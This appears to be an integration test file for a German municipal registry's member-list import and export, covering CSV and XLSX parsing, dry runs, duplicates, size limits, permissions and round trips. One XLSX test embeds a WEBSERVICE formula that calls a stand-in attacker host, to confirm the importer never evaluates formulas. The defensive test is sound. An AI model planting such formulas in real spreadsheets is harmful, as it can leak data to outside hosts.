// SPDX-FileCopyrightText: 2026 KommunalNetz Hub contributors
//
// SPDX-License-Identifier: EUPL-1.2

// Import of real-world member lists and export of the registry, through the gateway against a real
// PostgreSQL: encodings and separators as Excel writes them, XLSX with merged header cells and a
// formula, names that are ambiguous, unknown or not eligible, duplicates, the dry run, all-or-nothing,
// idempotence, the size limit, and the export → import round trip.
import ExcelJS from 'exceljs';
import { Client } from 'pg';
import { Role } from '../../../common/auth/roles';
import { startTestHub, TestHub, registryState } from '../../../testing/hub';
import { today as todayInGermany } from '../../../common/dates';
import { MAX_IMPORT_BYTES } from '../modules/exchange/rules';

let hub: TestHub;
const keys: Record<string, string> = {};
const as = (key: string) => ({ 'x-api-key': key });

beforeAll(async () => {
  // A body above the import's own limit must reach the registry, which refuses it with its code.
  hub = await startTestHub({ env: { RATE_LIMIT_MAX: '100000' } });
  for (const [label, role] of [
    ['admin', Role.MINISTRY_ADMIN],
    ['partner', Role.PARTNER],
  ] as const) {
    keys[label] = (await hub.apiKeys.create({ name: `exchange ${label}`, role, network: null, createdBy: 'test' })).secret;
  }
});
afterAll(async () => {
  await hub?.close();
});

const IMPORT = `mutation($content: String!, $encoding: FileEncoding, $dryRun: Boolean!) {
  importMemberships(content: $content, encoding: $encoding, dryRun: $dryRun) {
    format sha256 dryRun applied refusal rows { line outcome municipalityArs municipalityName reasons candidates } } }`;
const EXPORT = `query($format: ExportFormat!) { registryExport(format: $format) { fileName mediaType encoding content } }`;

async function importFile(bytes: Buffer, dryRun: boolean, key = keys.admin) {
  return hub.query(IMPORT, { content: bytes.toString('base64'), encoding: 'BASE64', dryRun }, as(key));
}

const tableState = () => registryState(hub);

const byLine = (rows: any[], line: number) => rows.find((r) => r.line === line);

test('a messy UTF-8 sheet with BOM and ";": every problem reported by row, the dry run and the refused apply change nothing', async () => {
  const csv = [
    'Kommune;Netzwerk;Status;Mitglied seit;Rolle;Beendet am;Quelle/Bemerkung',
    'VG Goellheim;Digitale Dörfer RLP;aktiv;12/2020;Transferstelle;;', // 2: the shipped transfer point, transliterated
    'Kerzenheim;Digitale Dörfer RLP;aktiv;2021-04;Mitglied;;Liste der Geschäftsstelle', // 3: new
    'Bellheim;Digitale Dörfer RLP;aktiv;2022;;;', // 4: VG and Ortsgemeinde
    'Nirgendwo am See;Digitale Dörfer RLP;aktiv;2022;;;', // 5: unknown
    'Koblenz;Digitale Dörfer RLP;aktiv;2022;;;', // 6: kreisfreie Stadt
    'Kerzenheim;Digitale Dörfer RLP;aktiv;2021-04;Mitglied;;', // 7: duplicate of 3
    'Mainz;IKONE-DS;aktiv;2020;;;', // 8: the other network
  ].join('\r\n');
  const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv, 'utf8')]);
  const before = await tableState();
  const dry = await importFile(bytes, true);
  expect(dry.errors).toBeUndefined();
  const report = dry.data.importMemberships;
  expect(report).toMatchObject({ format: 'CSV', dryRun: true, applied: false });
  const rows = report.rows;
  expect(byLine(rows, 2)).toMatchObject({ outcome: 'UNCHANGED', municipalityArs: '073335003000' });
  expect(byLine(rows, 3)).toMatchObject({ outcome: 'NEW', municipalityArs: '073335002038', municipalityName: 'Kerzenheim' });
  expect(byLine(rows, 4).outcome).toBe('REJECTED');
  expect(byLine(rows, 4).candidates).toEqual([
    'Bellheim (Verbandsgemeinde, ARS 073345001000)',
    'Bellheim (Ortsgemeinde, ARS 073345001001)',
  ]);
  expect(byLine(rows, 5)).toMatchObject({ outcome: 'REJECTED', municipalityArs: null });
  expect(byLine(rows, 5).reasons[0]).toContain('Nirgendwo am See');
  expect(byLine(rows, 6)).toMatchObject({ outcome: 'REJECTED', municipalityArs: '071110000000' });
  expect(byLine(rows, 6).reasons.join(' ')).toContain('nimmt keine kreisfreien Städte auf');
  expect(byLine(rows, 7).outcome).toBe('REJECTED');
  expect(byLine(rows, 7).reasons[0]).toContain('Duplicate of row 3');
  expect(byLine(rows, 8).outcome).toBe('SKIPPED');
  expect(await tableState()).toBe(before);

  const applied = await importFile(bytes, false);
  expect(applied.data.importMemberships).toMatchObject({ applied: false, dryRun: false });
  expect(applied.data.importMemberships.refusal).toContain('4 row(s) are rejected');
  expect(await tableState()).toBe(before);
});

test('a Windows-1252 sheet with ",": applied in one go with audit events, and a second import changes nothing', async () => {
  const csv = [
    'Kommune,Netzwerk,Status,Mitglied seit,Rolle,Beendet am,Quelle/Bemerkung,Ansprechperson,Ansprechperson E-Mail',
    'Kerzenheim,Digitale Dörfer RLP,aktiv,01.04.2021,Mitglied,,"Liste der Geschäftsstelle, Stand 2025",Jörg Müller,joerg@kerzenheim.example',
    'Hönningen,Digitale Dörfer,beendet,2021,,30.06.2024,https://example.org/quelle',
  ].join('\r\n');
  const bytes = Buffer.from(csv, 'latin1');
  expect(bytes.includes(Buffer.from([0xf6]))).toBe(true); // "ö" as one byte: really Windows-1252
  const first = await importFile(bytes, false);
  expect(first.errors).toBeUndefined();
  const report = first.data.importMemberships;
  expect(report.applied).toBe(true);
  expect(report.rows.map((r: any) => r.outcome)).toEqual(['NEW', 'NEW']);
  expect(report.rows[1]).toMatchObject({ municipalityName: 'Hönningen' });

  const history = await hub.query(
    `query { municipality(key: "07333038") { digitaleDoerfer { source status startedOn startedOnPrecision note letterDate contactPerson { name email } } } }`,
    {},
    as(keys.admin),
  );
  expect(history.data.municipality.digitaleDoerfer).toEqual({
    source: 'IMPORT',
    status: 'ACTIVE',
    startedOn: '2021-04-01',
    startedOnPrecision: 'DAY',
    note: 'Liste der Geschäftsstelle, Stand 2025',
    letterDate: null,
    contactPerson: { name: 'Jörg Müller', email: 'joerg@kerzenheim.example' },
  });
  const client = new Client({ connectionString: hub.databaseUrl });
  await client.connect();
  const { rows: events } = await client.query(
    `SELECT action, entity FROM registry.audit_event WHERE after->>'importFile' = $1 OR (entity = 'contact' AND action LIKE 'contact.%') ORDER BY id`,
    [report.sha256],
  );
  await client.end();
  expect(events.filter((e) => e.action === 'membership.import')).toHaveLength(2);

  const state = await tableState();
  const second = await importFile(bytes, false);
  expect(second.data.importMemberships.rows.map((r: any) => r.outcome)).toEqual(['UNCHANGED', 'UNCHANGED']);
  expect(await tableState()).toBe(state);
});

test('XLSX with a merged title over the header and a formula cell: the formula is read as its stored result, never evaluated', async () => {
  const workbook = new ExcelJS.Workbook();
  const ws = workbook.addWorksheet('Mitglieder');
  ws.addRow(['Mitgliederliste Netzwerk Digitale Dörfer RLP']);
  ws.mergeCells('A1:D1');
  ws.addRow(['Kommune', 'Status', 'Mitglied seit', 'Quelle/Bemerkung']);
  ws.addRow([
    'Königsfeld',
    'aktiv',
    new Date(Date.UTC(2022, 2, 15)),
    { formula: 'WEBSERVICE("http://attacker.example/")', result: 'laut Protokoll' },
  ]);
  const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
  const dry = await importFile(bytes, true);
  expect(dry.errors).toBeUndefined();
  expect(dry.data.importMemberships.format).toBe('XLSX');
  expect(dry.data.importMemberships.rows).toEqual([
    expect.objectContaining({ line: 3, outcome: 'NEW', municipalityArs: '071315004041', municipalityName: 'Königsfeld' }),
  ]);
  const applied = await importFile(bytes, false);
  expect(applied.data.importMemberships.applied).toBe(true);
  const member = await hub.query(`query { municipality(key: "071315004041") { digitaleDoerfer { note startedOn startedOnPrecision } } }`);
  expect(member.data.municipality.digitaleDoerfer).toEqual({ note: 'laut Protokoll', startedOn: '2022-03-15', startedOnPrecision: 'DAY' });
});

test('a file of exactly the largest size passes the gateway for a ministry admin (base64 too); anyone else keeps the small body limit', async () => {
  // A CSV of MAX_IMPORT_BYTES bytes: the header and rows that name no municipality, padded to size.
  const row = 'Unbekanntdorf\n';
  const head = 'Kommune\n';
  const body = head + row.repeat(Math.floor((MAX_IMPORT_BYTES - head.length) / row.length));
  const exact = Buffer.from(body.padEnd(MAX_IMPORT_BYTES, ' '));
  expect(exact.length).toBe(MAX_IMPORT_BYTES);
  for (const encoding of ['TEXT', 'BASE64'] as const) {
    const content = encoding === 'TEXT' ? exact.toString('utf8') : exact.toString('base64');
    const answer = await hub.query(IMPORT, { content, encoding, dryRun: true }, as(keys.admin));
    expect({ encoding, code: answer.errors?.[0]?.extensions?.code }).toEqual({ encoding, code: 'BAD_USER_INPUT' });
    // Refused for what the rows say (too many or unknown), not for the size.
    expect(answer.errors![0].message).not.toContain('at most');
  }
  const partner = await hub.query(IMPORT, { content: exact.toString('utf8'), dryRun: true }, as(keys.partner));
  expect(partner.status).toBe(413);
  expect(partner.errors![0].extensions!.code).toBe('PAYLOAD_TOO_LARGE');
});

test('an oversized or malformed file is refused with a code; only ministry admins import and export', async () => {
  const big = await hub.query(IMPORT, { content: `Kommune\n${'x'.repeat(MAX_IMPORT_BYTES)}`, dryRun: true }, as(keys.admin));
  expect(big.errors![0].extensions).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
  expect(big.errors![0].message).toContain(`at most ${MAX_IMPORT_BYTES}`);
  const broken = await importFile(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]), true);
  expect(broken.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
  expect(broken.errors![0].message).toContain('XLSX');
  const noHeader = await hub.query(IMPORT, { content: 'a;b\n1;2', dryRun: true }, as(keys.admin));
  expect(noHeader.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
  expect(noHeader.errors![0].message).toContain('Kommune');
  const partner = await hub.query(IMPORT, { content: 'Kommune\nMainz', dryRun: true }, as(keys.partner));
  expect(partner.errors![0].extensions!.code).toBe('FORBIDDEN');
  const anonymous = await hub.query(EXPORT, { format: 'JSON' });
  expect(anonymous.errors![0].extensions!.code).toBe('UNAUTHENTICATED');
});

test('export as CSV, XLSX and JSON; the JSON backup imports back unchanged and exports identically', async () => {
  const json = await hub.query(EXPORT, { format: 'JSON' }, as(keys.admin));
  expect(json.errors).toBeUndefined();
  const file = json.data.registryExport;
  expect(file).toMatchObject({ encoding: 'TEXT', mediaType: 'application/json' });
  const backup = JSON.parse(file.content);
  const kerzenheim = backup.municipalities.find((m: any) => m.ars === '073335002038');
  expect(kerzenheim.digitaleDoerfer[0].contactPerson).toMatchObject({ name: 'Jörg Müller' });
  const goellheim = backup.municipalities.find((m: any) => m.ars === '073335003000');
  expect(goellheim.digitaleDoerfer[0]).toMatchObject({ status: 'ACTIVE', source: 'PUBLIC_SOURCE', lastConfirmedOn: '2024-04-22' });
  expect(goellheim.digitaleDoerferRoles.map((r: any) => r.role)).toEqual(['MODEL_MUNICIPALITY', 'TRANSFER_POINT']);
  const eisenberg = backup.municipalities.find((m: any) => m.ars === '073335002000');
  expect(eisenberg.digitaleDoerfer[0]).toMatchObject({ status: 'UNKNOWN', endedOn: null, lastConfirmedOn: '2024-04-11' });

  const state = await tableState();
  const back = await hub.query(IMPORT, { content: file.content, dryRun: false }, as(keys.admin));
  expect(back.errors).toBeUndefined();
  expect(back.data.importMemberships.applied).toBe(true);
  expect(new Set(back.data.importMemberships.rows.map((r: any) => r.outcome))).toEqual(new Set(['UNCHANGED']));
  expect(back.data.importMemberships.rows.length).toBeGreaterThanOrEqual(7);
  expect(await tableState()).toBe(state);
  const again = await hub.query(EXPORT, { format: 'JSON' }, as(keys.admin));
  expect(again.data.registryExport.content).toBe(file.content);

  // An open application is in the export too; importing the list back leaves it as it is.
  const applied = await hub.query(
    `mutation { recordApplication(input: { municipalityKey: "073335006000", letterDate: "2025-03-01", signedBy: "Bürgermeister Test", receivedOn: "2025-03-05" }) { membership { id } } }`,
    {},
    as(keys.admin),
  );
  expect(applied.errors).toBeUndefined();
  const csv = await hub.query(EXPORT, { format: 'CSV' }, as(keys.admin));
  expect(csv.data.registryExport.content.startsWith('\ufeffKommune;Name;Netzwerk')).toBe(true);
  expect(csv.data.registryExport.content).toContain('073335002038;Kerzenheim;DIGITALE_DOERFER_RLP;ACTIVE;2021-04-01;Mitglied');
  expect(csv.data.registryExport.content).toContain(
    '073335002000;Eisenberg (Pfalz);DIGITALE_DOERFER_RLP;UNKNOWN;2020-12;Modellkommune, Transferstelle;;2024-04-11;2020-12;2023-12-31;',
  );
  const csvBack = await hub.query(IMPORT, { content: csv.data.registryExport.content, dryRun: true }, as(keys.admin));
  expect(csvBack.data.importMemberships.rows.filter((r: any) => r.outcome !== 'UNCHANGED' && r.outcome !== 'SKIPPED')).toEqual([]);
  expect(csvBack.data.importMemberships.rows.find((r: any) => r.municipalityArs === '073335006000')).toMatchObject({
    outcome: 'SKIPPED',
    reasons: [expect.stringContaining('applications (RECEIVED) are recorded with their letter')],
  });

  const xlsx = await hub.query(EXPORT, { format: 'XLSX' }, as(keys.admin));
  expect(xlsx.data.registryExport.encoding).toBe('BASE64');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(xlsx.data.registryExport.content, 'base64') as unknown as ArrayBuffer);
  expect(workbook.worksheets.map((w) => w.name)).toEqual(['Mitgliedschaften', 'Treffen', 'Erfahrungsberichte']);
});

test('roles are terms of their own; a membership of unknown status needs its last confirmation; a second import changes nothing', async () => {
  const rows = [
    'Kommune;Status;Mitglied seit;Rolle;Zuletzt bestätigt;Rolle seit;Rolle bis',
    '071315001000;aktiv;2021-04-19;Transferstelle, Modellkommune;;;2023-12-31', // 2: VG Adenau, transfer point until 2023
    '071315002000;unbekannt;2022;;10.05.2023;;', // 3: VG Altenahr, last confirmed 2023-05-10
    '071315003000;unbekannt;2022;;;;', // 4: VG Bad Breisig, no last confirmation
  ];
  const before = await tableState();
  const dry = await importFile(Buffer.from(rows.join('\n')), true);
  const report = dry.data.importMemberships.rows;
  expect(byLine(report, 2)).toMatchObject({ outcome: 'NEW' });
  expect(byLine(report, 2).reasons).toEqual([
    'Adds the role Transferstelle (from 2021-04-19 to 2023-12-31).',
    'Adds the role Modellkommune (from 2015-01-01 to 2021-12-31).',
  ]);
  expect(byLine(report, 3)).toMatchObject({ outcome: 'NEW' });
  expect(byLine(report, 4)).toMatchObject({ outcome: 'REJECTED', reasons: ['A membership of unknown status needs "Zuletzt bestätigt".'] });
  expect(await tableState()).toBe(before);

  const list = Buffer.from(rows.slice(0, 3).join('\n'));
  expect((await importFile(list, false)).data.importMemberships.applied).toBe(true);
  const { data } = await hub.query(`{
    adenau: municipality(key: "071315001000") { digitaleDoerfer { role status lastConfirmedOn } digitaleDoerferRoles { role startedOn endedOn source } }
    altenahr: municipality(key: "071315002000") { digitaleDoerfer { id status lastConfirmedOn version }
      networkFit { network { id } howToJoin reasons { code } } } }`);
  // The transfer-point term ended, the membership goes on; the list confirmed it today.
  expect(data.adenau.digitaleDoerfer).toEqual({ role: 'MEMBER', status: 'ACTIVE', lastConfirmedOn: todayInGermany() });
  expect(data.adenau.digitaleDoerferRoles).toEqual([
    { role: 'MODEL_MUNICIPALITY', startedOn: '2015-01-01', endedOn: '2021-12-31', source: 'IMPORT' },
    { role: 'TRANSFER_POINT', startedOn: '2021-04-19', endedOn: '2023-12-31', source: 'IMPORT' },
  ]);
  expect(data.altenahr.digitaleDoerfer).toMatchObject({ status: 'UNKNOWN', lastConfirmedOn: '2023-05-10' });
  const dd = data.altenahr.networkFit.find((f: any) => f.network.id === 'DIGITALE_DOERFER_RLP');
  expect(dd).toMatchObject({ howToJoin: null, reasons: [{ code: 'MEMBERSHIP_UNKNOWN' }, { code: 'VERBANDSGEMEINDE' }] });

  const imported = await tableState();
  const again = await importFile(list, false);
  expect(again.data.importMemberships.rows.map((r: any) => r.outcome)).toEqual(['UNCHANGED', 'UNCHANGED']);
  expect(await tableState()).toBe(imported);

  // Nobody applies over a membership of unknown status; the ministry confirms or ends it.
  const apply = await hub.query(
    `mutation($input: ApplicationInput!) { recordApplication(input: $input) { membership { id } } }`,
    { input: { municipalityKey: '071315002000', letterDate: '2026-01-05', receivedOn: '2026-01-07', signedBy: 'Bürgermeisterin' } },
    as(keys.admin),
  );
  expect(apply.errors![0]).toMatchObject({ extensions: { code: 'CONFLICT' } });
  expect(apply.errors![0].message).toContain('a membership of unknown status (last confirmed 2023-05-10)');
  const CONFIRM = `mutation($id: ID!, $v: Int!, $on: LocalDate) {
    confirmMembership(membershipId: $id, expectedVersion: $v, confirmedOn: $on) { status lastConfirmedOn version } }`;
  const { id, version } = data.altenahr.digitaleDoerfer;
  const older = await hub.query(CONFIRM, { id, v: version, on: '2023-01-01' }, as(keys.admin));
  expect(older.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'confirmedOn' } });
  const confirmed = await hub.query(CONFIRM, { id, v: version, on: '2026-03-01' }, as(keys.admin));
  expect(confirmed.data.confirmMembership).toEqual({ status: 'ACTIVE', lastConfirmedOn: '2026-03-01', version: version + 1 });
});
